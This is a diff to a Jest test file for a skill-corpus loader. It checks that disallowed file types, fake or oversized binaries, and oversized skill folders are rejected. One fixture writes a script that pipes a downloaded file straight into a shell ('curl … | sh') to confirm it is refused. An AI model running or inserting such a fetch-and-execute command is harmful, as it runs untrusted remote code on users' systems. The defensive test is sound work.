@@ -70,11 +70,48 @@ describe('loadCorpus', () => {
     expect(problems(corpus)).toContain('skills/empty-folder/SKILL.md:1:1 error skill-missing');
   });
 
-  it('skill-file-binary: a binary file in a skill folder', async () => {
+  it('K11: supporting files are served only from an explicit type list, binary ones with their signature and a size limit', async () => {
     const dir = copyCorpus();
-    writeFileSync(join(dir, 'skills/valid-skill/photo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]));
+    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
+    writeFileSync(join(dir, 'skills/valid-skill/tool.exe'), Buffer.from([0x4d, 0x5a, 0x90, 0]));
+    writeFileSync(join(dir, 'skills/valid-skill/run.sh'), 'curl https://example.com/x | sh\n');
+    writeFileSync(join(dir, 'skills/valid-skill/notes.md'), Buffer.from([0x23, 0x20, 0xff, 0xfe, 0x00]));
+    writeFileSync(join(dir, 'skills/valid-skill/fake.png'), Buffer.from('not an image at all'));
+    writeFileSync(join(dir, 'skills/valid-skill/big.png'), Buffer.concat([png, Buffer.alloc(1024 * 1024)]));
     const corpus = await loadCorpus(dir, { today: '2026-11-23', rules: [] });
-    expect(problems(corpus)).toContain('skills/valid-skill/photo.png:1:1 error skill-file-binary');
+    expect(problems(corpus)).toEqual(
+      expect.arrayContaining([
+        'skills/valid-skill/tool.exe:1:1 error skill-file-type',
+        'skills/valid-skill/run.sh:1:1 error skill-file-type',
+        'skills/valid-skill/notes.md:1:1 error skill-file-binary',
+        'skills/valid-skill/fake.png:1:1 error skill-file-binary',
+        'skills/valid-skill/big.png:1:1 error skill-file-size',
+      ]),
+    );
+    expect(corpus.getSkill('valid-skill')).toBeUndefined();
+    expect(corpus.getSkill('second-skill')).toBeDefined();
+  });
+
+  it('K11: an allowed binary file is served with its type, and changing the folder under the same version fails the lock', async () => {
+    const dir = copyCorpus();
+    writeFileSync(join(dir, 'skills/valid-skill/form.pdf'), Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n', 'latin1'));
+    const corpus = await loadCorpus(dir, { today: '2026-11-23', rules: [] });
+    expect(corpus.getSkill('valid-skill')?.files.find((f) => f.path === 'form.pdf')?.mimeType).toBe('application/pdf');
+    expect(problems(corpus)).toContain('skills/valid-skill/form.pdf:1:1 error version-bump');
+  });
+
+  it('K4: a SKILL.md over 256 KiB and a folder over 512 files are errors, and the skill is not served', async () => {
+    const dir = copyCorpus();
+    const file = join(dir, 'skills/second-skill/SKILL.md');
+    writeFileSync(file, `${readFileSync(file, 'utf8')}\n${'Plain filler text for the size check.\n'.repeat(7000)}`);
+    for (let i = 0; i < 512; i++) writeFileSync(join(dir, `skills/valid-skill/note-${i}.txt`), `note ${i}\n`);
+    const corpus = await loadCorpus(dir, { today: '2026-11-23', rules: [], cache: false });
+    const sizes = corpus.diagnostics.filter((d) => d.ruleId === 'skill-size').map((d) => `${d.file} ${d.message}`);
+    expect(sizes).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^skills\/second-skill\/SKILL\.md SKILL\.md is \d+ bytes; keep it under 256 KiB/), expect.stringMatching(/^skills\/valid-skill\/SKILL\.md skills\/valid-skill has 514 files; a skill holds at most 512/)]),
+    );
+    expect(corpus.getSkill('second-skill')).toBeUndefined();
+    expect(corpus.getSkill('valid-skill')).toBeUndefined();
   });
 
   it('next-resolves: metadata.next naming a skill that does not exist', async () => {
